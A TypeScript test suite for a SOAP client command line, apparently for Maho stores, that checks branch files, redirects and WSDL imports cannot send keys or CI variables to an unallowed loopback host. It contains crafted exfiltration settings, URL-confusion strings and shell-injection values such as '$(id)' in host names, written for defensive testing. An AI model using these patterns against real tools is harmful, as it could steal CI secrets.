// One row for each way in which a workspace, a branch or a store could send a key, a password or a variable to another host. The other host
// is a real server on loopback that answers like a store and keeps everything it receives.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { suite, test, type TestContext } from 'node:test';
import { serve } from '../../support/loopback';
import { tinyFault, tinyStore, tinyWsdl, type TinyStore } from '../../support/tiny-store';
import { selfSigned } from '../../support/tls';
import { cli, type CliResult } from '../requests/support';
import { branch, canaries, hostileHost, type HostileHost } from './hostile';

const info = { name: 'info', method: 'customer.info', args: [1] };
const leak = { name: 'leak', method: 'customer.info', args: { customerId: 1, attributes: ['{{$env CI_TOKEN}}'] } };
const envelope =
  '<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><customerCustomerInfo><sessionId>{{$sess' +
  'ion}}</sessionId><customerId>{{$env CI_TOKEN}}</customerId></customerCustomerInfo></e:Body></e:Envelope>';

interface Scene {
  readonly evil: HostileHost;
  /** A store whose host the user allowed. */
  readonly good: TinyStore;
}

interface Row {
  /** Files of the branch. */
  readonly files: (scene: Scene) => Readonly<Record<string, string | object>>;
  /** Folder of the repository; `null` for none. */
  readonly repository?: string | null;
  /** Working folder of the command. */
  readonly cwd?: string;
  readonly args?: (scene: Scene) => readonly string[];
  readonly env?: (scene: Scene) => Readonly<Record<string, string>>;
  /** The message, or the output of a command that ran in spite of the branch. */
  readonly says: RegExp;
  readonly code?: number;
}

const stores = (...list: readonly object[]): object => ({ 'mahoSoap.stores': list });
const shop = (url: string, more: object = {}): Readonly<Record<string, object>> => ({
  '.vscode/settings.json': stores({ name: 'Shop', url, user: 'api', ...more }),
  'a.maho.json': { store: 'Shop', requests: [info] },
});
const refused = /this host is not allowed/;

const rows: Readonly<Record<string, Row>> = {
  'settings name the host, --store names the entry': {
    files: ({ evil }) => shop(evil.url),
    args: () => ['--store', 'Shop'],
    says: refused,
  },
  'settings name the host, the request file names the entry': { files: ({ evil }) => shop(evil.url), says: refused },
  'the name of the host instead of its number': { files: ({ evil }) => shop(`http://localhost:${evil.port}`), says: refused },
  'the address with a path of the API': { files: ({ evil }) => shop(`${evil.url}/index.php/api/v2_soap/?wsdl=1`), says: refused },
  'the web server’s password': { files: ({ evil }) => shop(evil.url, { webUser: 'web' }), says: refused },
  'a variable as the CA file of a store that is named': {
    files: ({ good }) => shop(good.url, { caFile: '${env:CI_TOKEN}/ca.pem' }),
    says: /its CA file is not allowed/,
  },
  'a variable in the path of the address': { files: ({ evil }) => shop(`${evil.url}/\${env:CI_TOKEN}/`), says: refused },
  'a variable as the user': { files: ({ evil }) => shop(evil.url, { user: '${env:CI_TOKEN}' }), says: refused },
  'a variable as the web server’s user': { files: ({ evil }) => shop(evil.url, { webUser: '${env:CI_TOKEN}' }), says: refused },
  'a variable in the name of the host': { files: ({ evil }) => shop(`http://\${env:CI_TOKEN}.localhost:${evil.port}`), says: refused },
  'a variable that whoever opened the branch chose': {
    files: () => shop('${env:HEAD_REF}'),
    env: ({ evil }) => ({ HEAD_REF: evil.url }),
    says: refused,
  },
  'the key as a variable of a store that is named': {
    files: ({ good }) => shop(`${good.url}/\${env:MAHO_SOAP_KEY}/`),
    says: /cannot be used in the settings of a store/,
  },
  'the hosts as a variable': { files: () => shop('${env:MAHO_SOAP_HOSTS}'), says: /cannot be used in the settings of a store/ },
  'another settings file': {
    files: ({ evil }) => ({
      'ci.json': stores({ name: 'Shop', url: evil.url, user: 'api' }),
      'a.maho.json': { store: 'Shop', requests: [info] },
    }),
    args: () => ['--settings', 'ci.json'],
    says: refused,
  },
  'settings above the repository': {
    files: ({ evil }) => shop(evil.url),
    repository: 'repo',
    cwd: 'repo',
    args: () => ['../a.maho.json'],
    says: /There is no store "Shop"/,
  },
  'settings above a folder without a repository': {
    files: ({ evil }) => shop(evil.url),
    repository: null,
    cwd: 'sub',
    args: () => ['../a.maho.json'],
    says: /There is no store "Shop"/,
  },
  'settings below the root of the repository': {
    files: ({ evil }) => shop(evil.url),
    cwd: 'deep/er',
    args: () => ['../../a.maho.json'],
    says: refused,
  },
  'a user before the host that is named': {
    files: ({ evil, good }) => shop(`http://127.0.0.1:${good.port}@127.0.0.1:${evil.port}/`),
    says: /is not the URL of a store/,
  },
  'a backslash before the host that is named': {
    files: ({ evil, good }) => shop(`http://127.0.0.1:${evil.port}\\@127.0.0.1:${good.port}/`),
    says: refused,
  },
  'the host that is named within another name': {
    files: ({ evil, good }) => shop(`http://127.0.0.1.${good.port}.localhost:${evil.port}`),
    says: refused,
  },
  'another port of the host that is named': { files: ({ evil }) => shop(evil.url), says: refused },
  'a host that is named, but not encrypted': {
    files: () => shop('http://shop.example.com'),
    env: () => ({ MAHO_SOAP_HOSTS: 'shop.example.com' }),
    says: /not encrypted/,
  },
  'hosts named in a file of the branch': {
    files: ({ evil }) => ({ ...shop(evil.url, { allowHost: '*' }), '.env': `MAHO_SOAP_HOSTS=127.0.0.1:${evil.port}\n` }),
    says: refused,
  },
  'a proxy in the settings': {
    files: ({ evil, good }) => ({
      ...shop(good.url),
      '.vscode/settings.json': { ...stores({ name: 'Shop', url: good.url, user: 'api', proxy: evil.url }), 'http.proxy': evil.url },
    }),
    says: /1 passed/,
    code: 0,
  },
  'a request file that sends a variable': {
    files: ({ evil }) => ({ ...shop(evil.url), 'a.maho.json': { store: 'Shop', requests: [leak] } }),
    says: refused,
  },
  'a request file with a variable of variables': {
    files: ({ evil }) => ({
      ...shop(evil.url),
      'a.maho.json': {
        store: 'Shop',
        variables: { x: '{{$env CI_TOKEN}}' },
        requests: [{ ...info, args: { customerId: 1, attributes: ['{{x}}'] } }],
      },
    }),
    says: refused,
  },
  'an envelope that sends a variable': {
    files: ({ evil }) => ({ ...shop(evil.url), 'a.maho.json': { store: 'Shop', requests: [{ name: 'raw', envelope }] } }),
    says: refused,
  },
  'an environment file that sends the key': {
    files: ({ good }) => ({
      ...shop(good.url),
      'env.json': { x: '{{$env MAHO_SOAP_KEY}}' },
      'a.maho.json': { store: 'Shop', requests: [{ ...info, args: ['{{x}}'] }] },
    }),
    args: () => ['--env', 'env.json'],
    says: /keys are never variables/,
  },
  'an entry of the same name while --url names the host': {
    files: ({ evil }) => shop(evil.url),
    args: ({ good }) => ['--url', good.url, '--user', 'api'],
    says: /1 passed/,
    code: 0,
  },
};

async function scene(t: TestContext): Promise<Scene> {
  return { evil: await hostileHost(t), good: await tinyStore(t, 'v2', () => ({ value: { customer_id: 1 } })) };
}

async function runIn(folder: string, args: readonly string[], env: Readonly<Record<string, string>>): Promise<CliResult> {
  const before = process.cwd();
  process.chdir(folder);
  try {
    return await cli(['run', ...args], env);
  } finally {
    process.chdir(before);
  }
}

suite('Another host receives nothing: command line', () => {
  for (const [name, row] of Object.entries(rows)) {
    test(name, async (t) => {
      const there = await scene(t);
      const folder = branch(t, row.files(there), row.repository);
      const cwd = join(folder, row.cwd ?? '.');
      mkdirSync(cwd, { recursive: true });
      const args = row.args?.(there) ?? [];
      const files = args.some((arg) => arg.endsWith('.maho.json')) ? [] : ['a.maho.json'];
      const env = { ...canaries, MAHO_SOAP_HOSTS: `127.0.0.1:${there.good.port}`, ...row.env?.(there) };
      const { code, out, err } = await runIn(cwd, [...files, ...args], env);
      assert.deepEqual(there.evil.arrived(), [], out + err);
      assert.equal(there.evil.requests, 0, 'the other host was asked something');
      assert.match(out + err, row.says);
      assert.equal(code, row.code ?? 2);
      for (const canary of Object.values(canaries)) assert.ok(!(out + err).includes(canary), `${out}${err}`);
    });
  }

  test('the check sees every secret: all of them arrive if the host is allowed', async (t) => {
    for (const option of [['--allow-host', 'HOST'], ['--allow-host', '127.0.0.1'], ['--allow-host', 'http://HOST/'], []] as const) {
      const { evil } = await scene(t);
      const folder = branch(t, {
        ...shop(`${evil.url}/\${env:CI_TOKEN}/`, { webUser: 'web' }),
        'a.maho.json': { store: 'Shop', requests: [leak] },
      });
      const host = `127.0.0.1:${evil.port}`;
      const { MAHO_SOAP_KEY: _unused, ...others } = canaries;
      const { code } = await runIn(folder, ['a.maho.json', ...option.map((part) => part.replace('HOST', host))], {
        ...others,
        ...(option.length === 0 ? { MAHO_SOAP_HOSTS: `other.example, ${host}` } : {}),
      });
      assert.equal(code, 0);
      assert.deepEqual([...evil.arrived()].sort(), Object.keys(others).sort());
    }
  });

  test('the suggested command can be copied, and contains nothing that a shell would run', async (t) => {
    const { evil } = await scene(t);
    const say = async (url: string, env: Readonly<Record<string, string>> = {}): Promise<string> => {
      const { out, err } = await runIn(branch(t, shop(url)), ['a.maho.json', '--store', 'Shop'], { ...canaries, ...env });
      return out + err;
    };
    assert.match(
      await say(evil.url),
      new RegExp(`add --allow-host 127\\.0\\.0\\.1:${evil.port}, or set MAHO_SOAP_HOSTS=127\\.0\\.0\\.1:${evil.port}\\.`),
    );
    assert.match(await say('https://Shop.Example.com/de/'), /--allow-host shop\.example\.com, /);
    assert.match(await say('http://shop.example.com/'), /--allow-host http:\/\/shop\.example\.com, /);
    assert.match(await say('${env:STAGING_URL}', { STAGING_URL: evil.url }), /--allow-host "\$STAGING_URL", /);
    for (const url of [
      'https://a$(id).example',
      'https://a`id`.example',
      'https://a;id.example',
      "https://a'b.example",
      '${env:X;id}',
      '${env:X"$(id)}',
    ]) {
      const said = await say(url, { 'X;id': evil.url, 'X"$(id)': evil.url });
      assert.doesNotMatch(said, /add --allow-host/, url);
      assert.match(said, /this host is not allowed|is not the URL of a store/);
    }
  });

  test('an invalid host is refused before anything is sent', async (t) => {
    const { evil } = await scene(t);
    const folder = branch(t, shop(evil.url));
    for (const host of ['*', '*.localhost', 'http://', 'a b', '127.0.0.1/x', 'user@127.0.0.1', 'ftp://127.0.0.1', '127.0.0.1:99999']) {
      const { code, err } = await runIn(folder, ['a.maho.json', '--allow-host', host], canaries);
      assert.deepEqual([code, /is not a host/.test(err)], [2, true], host);
    }
    assert.equal(evil.requests, 0);
  });

  test('a CA file of the branch cannot make another server pass for the allowed host', async (t) => {
    const evil = await hostileHost(t, selfSigned);
    const files = { ...shop(evil.url, { caFile: 'ca.pem' }), 'ca.pem': selfSigned.cert };
    const env = { ...canaries, MAHO_SOAP_HOSTS: `127.0.0.1:${evil.port}` };
    const folder = branch(t, files);
    const { code, out } = await runIn(folder, ['a.maho.json'], env);
    assert.equal(code, 2);
    assert.match(out, /its CA file is not allowed/);
    assert.deepEqual([evil.requests, evil.arrived()], [0, []]);
    assert.equal((await runIn(folder, ['a.maho.json', '--ca', 'ca.pem'], env)).code, 0);
    assert.ok(evil.arrived().includes('MAHO_SOAP_KEY_SHOP'));
  });
});

suite('Another host receives nothing: a store that refers to it', () => {
  for (const status of [301, 302, 303, 307, 308]) {
    test(`a redirect ${status} of the WSDL and of a call`, async (t) => {
      const { evil } = await scene(t);
      for (const from of ['GET', 'POST']) {
        const server = await serve(t, ({ request }, response) => {
          if (request.method === from) {
            response.writeHead(status, { Location: `${evil.url}${request.url ?? ''}` });
            response.end();
          } else response.end(tinyWsdl('v2', `http://${request.headers.host ?? ''}/`));
        });
        const folder = branch(t, { 'a.maho.json': { requests: [info] } });
        const { code } = await runIn(folder, ['a.maho.json', '--url', server.url, '--user', 'api', '--web-user', 'web'], canaries);
        assert.equal(code, 2);
      }
      assert.deepEqual([evil.requests, evil.arrived()], [0, []]);
    });
  }

  test('an address in the WSDL, in all its places', async (t) => {
    const { evil } = await scene(t);
    const wsdl = (dialect: Parameters<typeof tinyWsdl>[0]): string =>
      tinyWsdl(dialect, `${evil.url}/api/v2_soap/index/`).replace(
        '<binding',
        `<import namespace="urn:x" location="${evil.url}/more.wsdl"/><types><schema ` +
          `xmlns="http://www.w3.org/2001/XMLSchema"><import namespace="urn:y" schemaLocation="${evil.url}` +
          `/more.xsd"/><include schemaLocation="${evil.url}/more.xsd"/></schema></types><binding`,
      );
    for (const dialect of ['v1', 'v2', 'wsi'] as const) {
      const store = await tinyStore(t, dialect, () => ({ value: { customer_id: 1 } }), wsdl);
      const folder = branch(t, { 'a.maho.json': { requests: [info, { name: 'foreign', method: 'customThingInfo', args: { id: 1 } }] } });
      const url = dialect === 'v1' ? `${store.url}/api/soap/` : `${store.url}/api/v2_soap/`;
      await runIn(folder, ['a.maho.json', '--url', url, '--user', 'api', '--web-user', 'web'], canaries);
      assert.deepEqual(evil.arrived(), []);
      assert.equal(evil.requests, 0, dialect);
      assert.ok(store.requests.length > 0 || dialect === 'wsi');
    }
  });

  test('a fault or a page that asks to go elsewhere', async (t) => {
    const { evil } = await scene(t);
    const store = await tinyStore(t, 'v2', () => ({ xml: tinyFault('301', `Moved to ${evil.url}/api/v2_soap/`) }));
    const folder = branch(t, { 'a.maho.json': { requests: [info] } });
    await runIn(folder, ['a.maho.json', '--url', store.url, '--user', 'api'], canaries);
    const page = await serve(t, (_, response) => {
      response.writeHead(200, {
        'Content-Type': 'text/html',
        Refresh: `0; url=${evil.url}`,
        'Content-Location': evil.url,
        'Alt-Svc': `h2="127.0.0.1:${evil.port}"`,
      });
      response.end(`<html><head><meta http-equiv="refresh" content="0; url=${evil.url}"><base href="${evil.url}"></head></html>`);
    });
    await runIn(folder, ['a.maho.json', '--url', page.url, '--user', 'api'], canaries);
    assert.deepEqual([evil.requests, evil.arrived()], [0, []]);
  });
});
